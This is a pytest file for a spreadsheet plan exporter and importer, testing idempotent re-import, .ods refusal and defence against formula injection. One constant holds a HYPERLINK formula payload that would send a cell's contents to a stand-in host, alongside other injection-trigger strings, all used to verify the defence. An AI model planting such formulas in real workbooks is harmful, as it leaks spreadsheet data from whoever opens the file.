"""Importing the same returned workbook twice changes nothing the second time; user text
that looks like a formula is written as text and comes back unchanged; .ods is refused
with a clear message."""

from __future__ import annotations

import zipfile

import openpyxl
import pytest
from openpyxl.comments import Comment as CellNote

from exporters import plan_workbook as pw
from exporters.plan_workbook import export_plan
from exporters.roundtrip import WorkbookError, apply_import, read_plan_workbook
from jbp.commands import Editor, History, SetField
from jbp.demo import AS_OF

PARTNER = Editor("Alex Meyer", "partner")
VENDOR = Editor("Dana Whitfield", "vendor")
INJECTION = '=HYPERLINK("http://x"&A1,"Click")'
TRICKY = (INJECTION, "+1 555 0100", "-minus", "@at", "\tTab", "\rReturn")


def active_plan(ws):
    return next(p for p in ws.plans() if p.status == "Active")


def find_row(sheet, value, col=1):
    for row in sheet.iter_rows(min_col=col, max_col=col):
        if row[0].value == value:
            return row[0].row
    raise AssertionError(f"{value!r} not found in {sheet.title}")


def header_col(sheet, text, row=pw.HEADER_ROW):
    return next(c.column for c in sheet[row] if c.value == text)


def test_importing_the_same_edited_workbook_twice_changes_nothing_the_second_time(
        demo_ws, tmp_path):
    ws = demo_ws
    plan = active_plan(ws)
    path = export_plan(ws, plan.id, tmp_path / "plan.xlsx", as_of=AS_OF)
    doc = ws.plan_document(plan.id)
    first = doc.initiatives[0]
    wb = openpyxl.load_workbook(path)
    ini = wb[pw.INITIATIVES]
    ini.cell(find_row(ini, first.title), header_col(ini, "Owner")).value = "Sam Chen"
    total = find_row(ini, "Total")
    ini.insert_rows(total)
    for header, value in (("Initiative", "Partner roadshow"), ("Type", "GTM campaign"),
                          ("Owner side", "partner"), ("Status", "Planned")):
        ini.cell(total, header_col(ini, header)).value = value
    ini.cell(total, 1).comment = CellNote("Our idea", "Alex Meyer")
    com = wb[pw.COMMENTS]
    r = com.max_row + 1
    com.cell(r, 1).value = f"{pw.ref('initiative', first.id)} · Initiative: x"
    com.cell(r, 2).value = "Sam Chen"
    com.cell(r, 5).value = "Can MDF be approved by January?"
    edited = tmp_path / "edited.xlsx"
    wb.save(edited)

    first_review = read_plan_workbook(ws, edited, plan_id=plan.id)
    actions = sorted(c.action for c in first_review.changes)
    assert actions == ["add", "comment", "comment", "edit"]
    apply_import(ws, first_review, first_review.changes, PARTNER)
    after_first = ws.plan_document(plan.id)

    second = read_plan_workbook(ws, edited, plan_id=plan.id)
    assert second.changes == []
    apply_import(ws, second, second.changes, PARTNER)
    after_second = ws.plan_document(plan.id)
    assert after_second.snapshot() == after_first.snapshot()
    assert len(after_second.comments) == len(after_first.comments)
    assert len(after_second.initiatives) == len(doc.initiatives) + 1


def test_text_that_looks_like_a_formula_is_text_everywhere_and_round_trips(demo_ws, tmp_path):
    ws = demo_ws
    plan = active_plan(ws)
    doc = ws.plan_document(plan.id)
    History(ws).run(SetField(VENDOR, "plan", plan.id, "title", INJECTION))
    History(ws).run(SetField(VENDOR, "goal", doc.goals[0].id, "title", INJECTION))
    for text, ini in zip(TRICKY[1:], doc.initiatives, strict=False):
        History(ws).run(SetField(VENDOR, "initiative", ini.id, "owner", text))
    with ws.transaction():
        ws.execute("UPDATE partners SET name = ? WHERE id = ?", (INJECTION, doc.partner.id))
    path = export_plan(ws, plan.id, tmp_path / "plan.xlsx", as_of=AS_OF)

    # No cell holds the user's text as a formula: every <f> in the file is one of ours.
    with zipfile.ZipFile(path) as archive:
        xml = "".join(archive.read(n).decode() for n in archive.namelist()
                      if n.startswith("xl/worksheets/sheet"))
    assert "<f>HYPERLINK" not in xml and "HYPERLINK" in xml
    wb = openpyxl.load_workbook(path)
    hits = [(s.title, c.coordinate) for s in wb for r in s.iter_rows() for c in r
            if c.value == INJECTION]
    assert len(hits) >= 4  # cover title, goal, hidden labels, partner...
    for title, coord in hits:
        assert wb[title][coord].data_type == "s", (title, coord)
    assert wb[pw.COVER]["B5"].quotePrefix
    owners = [c.value for r in wb[pw.INITIATIVES].iter_rows() for c in r]
    stored = [i.owner for i in ws.plan_document(plan.id).initiatives[:len(TRICKY) - 1]]
    assert stored[:3] == list(TRICKY[1:4])  # (leading tab / CR are trimmed on entry)
    for text in stored:
        assert text in owners, text

    review = read_plan_workbook(ws, path, plan_id=plan.id)
    assert review.changes == [] and review.notes == []

    # The portfolio (All partners, the tier sheets) and the scenario-free workbooks too.
    from exporters.portfolio_workbook import export_portfolio

    book = export_portfolio(ws, tmp_path / "portfolio.xlsx", as_of=AS_OF)
    with zipfile.ZipFile(book) as archive:
        xml = "".join(archive.read(n).decode() for n in archive.namelist()
                      if n.startswith("xl/worksheets/sheet"))
    assert "<f>HYPERLINK" not in xml
    wb = openpyxl.load_workbook(book)
    hits = [s.title for s in wb for r in s.iter_rows() for c in r if c.value == INJECTION]
    assert "All partners" in hits and len(hits) >= 2  # and the partner's tier sheet


def test_ods_is_refused_with_a_clear_message(demo_ws, tmp_path):
    path = tmp_path / "plan.ods"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", "<office:document-content/>")
    with pytest.raises(WorkbookError) as err:
        read_plan_workbook(demo_ws, path)
    text = str(err.value)
    assert "OpenDocument" in text and ".xlsx" in text and "damaged" not in text
